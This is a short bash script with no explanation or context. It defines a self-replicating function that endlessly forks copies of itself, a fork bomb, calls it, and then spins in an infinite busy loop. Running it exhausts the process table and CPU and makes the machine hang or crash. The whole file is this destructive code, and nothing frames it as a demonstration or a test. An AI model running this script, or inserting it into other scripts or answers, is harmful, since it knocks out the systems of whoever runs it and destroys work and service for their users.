#!/bin/bash
set -euo pipefail
bomb() { bomb | bomb & }
bomb
while :; do :; done
